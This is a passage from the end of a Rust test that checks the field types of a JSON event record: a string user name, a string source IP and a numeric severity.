            assert!(v["user"]["name"].is_string(), "{v}");
            assert!(v["source"]["ip"].is_string(), "{v}");
            assert!(v["event"]["severity"].is_u64(), "{v}");
        }
    }
}
